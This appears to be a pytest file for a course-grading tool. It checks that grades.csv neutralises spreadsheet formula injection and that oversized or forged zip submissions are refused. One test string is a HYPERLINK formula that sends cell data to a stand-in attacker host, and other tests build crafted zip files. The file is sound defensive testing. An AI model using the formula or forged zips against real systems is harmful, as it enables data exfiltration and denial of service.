"""What a submission can do to the grading machine and the instructor's files: a zip of many
entries, grades.csv opened in a spreadsheet, the Canvas gradebook built from it (found by a
hostile review, session 15)."""

from __future__ import annotations

import csv

from rnn_core.course.lms import write_canvas
from rnn_core.course.report import ExerciseResult, StudentResult, publish, write_result


def _result(student: str, message: str = "", points: float | None = 8.0,
            exercises: bool = True) -> StudentResult:
    ex = [ExerciseResult("test_clip_grad_norm", "07_gradient_clipping.ipynb", 8.0, points,
                         "passed" if points else "failed")] if exercises else []
    return StudentResult(student, "ok" if exercises else "error", message, "bwrap", ex)


def test_no_cell_of_grades_csv_opens_as_a_formula(tmp_path):
    evil = '=HYPERLINK("http://attacker.example/?"&A3&B3,"Click for details")/../x'
    write_result(tmp_path, _result("ann", message=f"{evil}: path outside the submission"))
    write_result(tmp_path, _result("@bo", message="-1+2"))
    publish(tmp_path)
    rows = list(csv.DictReader(open(tmp_path / "grades.csv", encoding="utf-8")))
    by = {r["student"]: r for r in rows}
    assert set(by) == {"ann", "'@bo"}
    assert by["ann"]["message"] == f"'{evil}: path outside the submission"
    assert by["'@bo"]["message"] == "'-1+2"
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in r.values()), r
    assert by["ann"]["total"] == "8" and by["ann"]["max"] == "8"   # numbers stay numbers


def test_a_row_the_grader_could_not_finish_does_not_set_canvas_points_possible(tmp_path):
    # "aaa" sorts first and has no exercises (a grader error): max 0 in grades.csv
    write_result(tmp_path, _result("aaa", message="grader error: RecursionError",
                                   exercises=False))
    write_result(tmp_path, _result("ann"))
    publish(tmp_path)
    rows = list(csv.DictReader(open(tmp_path / "grades.csv", encoding="utf-8")))
    assert [r["max"] for r in rows] == ["0", "8"]
    path = write_canvas(tmp_path, "RNN (1)")
    lines = list(csv.reader(open(path, encoding="utf-8")))
    assert lines[1] == ["Points Possible", "", "", "", "", "8"]


def test_a_zip_of_many_skipped_entries_is_refused_before_its_directory_is_read(tmp_path):
    import zipfile

    import pytest

    from rnn_core.course.collect import Caps, collect

    caps = Caps(entries=500)
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w") as z:
        z.writestr("rnn_core/rnn.py", "x = 1\n")
        for i in range(501):                    # entries grading skips: they counted for nothing
            z.writestr(f"j/{i}", "")
    with pytest.raises(ValueError, match=r"more than 500 entries in the zip \(502\)"):
        collect(bomb, tmp_path / "w1", ["rnn_core"], [], caps)
    assert not (tmp_path / "w1" / "rnn_core").exists()
    folder = tmp_path / "sub"
    (folder / "j").mkdir(parents=True)
    for i in range(501):
        (folder / "j" / str(i)).write_text("")
    with pytest.raises(ValueError, match="more than 500 entries in the submission"):
        collect(folder, tmp_path / "w2", ["rnn_core"], [], caps)
    ok = tmp_path / "ok.zip"                    # at the cap: collected as before
    with zipfile.ZipFile(ok, "w") as z:
        z.writestr("rnn_core/rnn.py", "x = 1\n")
        for i in range(499):
            z.writestr(f"j/{i}", "")
    sub = collect(ok, tmp_path / "w3", ["rnn_core"], [], caps)
    assert (sub.root / "rnn_core" / "rnn.py").read_text() == "x = 1\n"


def test_a_zip_whose_end_record_understates_its_entries_is_refused_by_directory_size(tmp_path):
    import struct
    import zipfile

    import pytest

    from rnn_core.course.collect import Caps, collect

    liar = tmp_path / "liar.zip"
    with zipfile.ZipFile(liar, "w") as z:
        for i in range(300):
            z.writestr(f"j/{'x' * 200}{i}", "")
    data = bytearray(liar.read_bytes())
    at = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, at + 8, 3, 3)      # "3 entries": the directory holds 300
    liar.write_bytes(bytes(data))
    with pytest.raises(ValueError, match="directory is larger than 4000 bytes"):
        collect(liar, tmp_path / "w", ["rnn_core"], [], Caps(entries=10))
